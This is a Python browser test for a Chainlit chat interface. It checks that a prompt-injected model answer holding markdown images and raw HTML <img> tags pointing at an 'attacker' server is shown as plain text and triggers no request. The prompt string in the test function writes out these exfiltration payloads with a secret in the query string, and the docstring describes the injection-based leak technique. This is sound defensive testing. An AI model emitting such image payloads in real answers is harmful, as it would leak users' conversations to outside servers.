"""Model output that tries to leak the conversation: a prompt-injected answer with a
markdown image (and raw HTML) pointing at an outside server. The Chainlit UI must show it
as text and never request the URL. The simulator's `echo` variant plays the injected
model: it repeats the prompt word for word."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from typing import ClassVar

import httpx
import pytest
from playwright.async_api import Page

from testing.simulator import simulator_variant
from testing.stack import free_port
from tests.browser.test_chat_ui import REPLY, normalized, send

pytestmark = pytest.mark.browser


class _Recorder(http.server.BaseHTTPRequestHandler):
    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        _Recorder.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()
        self.wfile.write(b"GIF89a")

    def log_message(self, *args: object) -> None:
        return


@pytest.fixture
def outside_server() -> Iterator[str]:
    """An 'attacker' HTTP server on another origin that records every request."""
    _Recorder.hits = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), _Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


async def test_an_injected_image_or_html_in_an_answer_loads_nothing(
    page: Page, stack_simulator: httpx.AsyncClient, outside_server: str
) -> None:
    leak = f"{outside_server}/l?c=secret"
    # (the browser stack's prompts are at most 200 characters)
    prompt = f'![logo]({leak}) ![r][p] <img src="{leak}&h"> then stop.\n\n[p]: {leak}&r'
    assert len(prompt) <= 200
    async with simulator_variant(stack_simulator, "echo"):
        await send(page, prompt)
        reply = page.locator(REPLY).filter(has_text="then stop").last
        await reply.wait_for(timeout=60_000)
        await page.locator(REPLY).filter(has_text="tokens").last.wait_for(timeout=60_000)
    text = normalized(await reply.inner_text())
    assert f"![logo]({leak})" in text  # shown as the text the model wrote
    # The user's own message is plain text too (a pasted document can carry the same).
    assert f"![logo]({leak})" in normalized(await page.inner_text("body")).replace(text, "")
    assert '<img src="' in text
    # (the reply's one image is Chainlit's own avatar)
    assert await page.locator(f'img[src^="{outside_server}"]').count() == 0
    await page.wait_for_timeout(500)
    assert _Recorder.hits == [], f"the page fetched {_Recorder.hits}"
